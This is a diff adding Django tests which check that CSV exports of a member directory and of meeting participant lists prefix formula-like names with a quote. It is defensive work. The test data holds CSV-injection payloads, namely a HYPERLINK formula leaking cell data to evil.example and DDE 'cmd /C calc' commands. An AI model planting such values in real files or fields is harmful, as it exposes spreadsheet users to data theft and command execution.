@@ -1,0 +1,95 @@
+"""CSV exports open in spreadsheets: a value that starts like a formula is exported as text.
+
+A name starting with =, +, -, @, a tab or a carriage return would run as a formula (or a DDE
+command) when the file is opened in Excel or LibreOffice; OWASP's remedy is a leading single quote,
+which makes the cell text. Both exports are checked: the member directory's open data
+(/members/?format=csv) and a meeting's participant list (?format=csv), with names that anyone can
+choose (an applicant names the institution; anyone who signs up names themselves).
+"""
+
+import csv
+import datetime
+import io
+
+import pytest
+from django.utils import timezone
+
+from meetings.models import Meeting, Registration
+from members.models import Affiliation
+from tests.factories import InstitutionFactory, UserFactory, WorkingGroupFactory, staff_of
+
+pytestmark = pytest.mark.django_db
+
+FORMULAS = {
+    # a name as typed → the cell as exported
+    '=HYPERLINK("https://evil.example/?leak="&A1,"詳細")': '\'=HYPERLINK("https://evil.example/?leak="&A1,"詳細")',
+    "=cmd|' /C calc'!A0": "'=cmd|' /C calc'!A0",
+    "+81-3-1234-5678": "'+81-3-1234-5678",
+    "-2+3+cmd|' /C calc'!A0": "'-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0": "'@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1": "'\t=1+1",
+    "\r=1+1": "'\r=1+1",
+    # the full-width forms a Japanese input method produces, treated the same way as a precaution
+    "＝1+1": "'＝1+1",
+    "＋1": "'＋1",
+    "－1": "'－1",
+    "＠SUM(1)": "'＠SUM(1)",
+}
+PLAIN = {
+    # nothing to do: the formula characters are not at the start
+    "甲大学": "甲大学",
+    "Alpha = Beta University": "Alpha = Beta University",
+    "A-1 Institute": "A-1 Institute",
+    "'quoted": "'quoted",
+}
+NAMES = {**FORMULAS, **PLAIN}
+
+
+def rows(response) -> list[dict]:
+    body = b"".join(response.streaming_content) if response.streaming else response.content
+    text = body.decode("utf-8")
+    assert text.startswith("\ufeff")
+    return list(csv.DictReader(io.StringIO(text[1:], newline="")))
+
+
+def test_directory_csv_exports_formula_names_as_text(client):
+    for n, name in enumerate(NAMES):
+        InstitutionFactory(slug=f"univ-{n}", name_en=name, name_ja=name)
+
+    response = client.get("/en/members/?format=csv")
+
+    assert response.status_code == 200
+    exported = {row["slug"]: (row["name_en"], row["name_ja"]) for row in rows(response)}
+    assert exported == {f"univ-{n}": (cell, cell) for n, cell in enumerate(NAMES.values())}
+
+
+def test_directory_json_keeps_names_as_they_are(client):
+    """JSON is read by programs, not spreadsheets: the names are exported unchanged."""
+    for n, name in enumerate(NAMES):
+        InstitutionFactory(slug=f"univ-{n}", name_en=name)
+
+    results = client.get("/en/members/?format=json").json()["results"]
+
+    assert {r["slug"]: r["name_en"] for r in results} == {f"univ-{n}": name for n, name in enumerate(NAMES)}
+
+
+def test_participants_csv_exports_formula_names_as_text(client):
+    coordinating = InstitutionFactory(slug="univ-c")
+    group = WorkingGroupFactory(coordinators=[coordinating])
+    starts = timezone.now() + datetime.timedelta(days=10)
+    meeting = Meeting.objects.create(kind=Meeting.Kind.GROUP, group=group, title_ja="第1回会合", starts_at=starts,
+                                     ends_at=starts + datetime.timedelta(hours=2), visibility=Meeting.Visibility.PUBLIC)
+    institution = InstitutionFactory(slug="formula-univ", name_ja="=1+1大学", name_en="=1+1 University")
+    expected = {}
+    for n, name in enumerate(NAMES):
+        user = UserFactory(email=f"p{n}@example.org", name=name)
+        Affiliation.objects.create(user=user, institution=institution, status=Affiliation.Status.APPROVED)
+        Registration.objects.create(meeting=meeting, user=user, mode=Registration.Mode.ONLINE)
+        expected[f"p{n}@example.org"] = (NAMES[name], "'=1+1 University")
+    client.force_login(staff_of(coordinating))
+
+    response = client.get(f"/en/meetings/{meeting.pk}/participants/?format=csv")
+
+    assert response.status_code == 200
+    exported = {row["E-mail address"]: (row["Name"], row["Institution"]) for row in rows(response)}
+    assert exported == expected
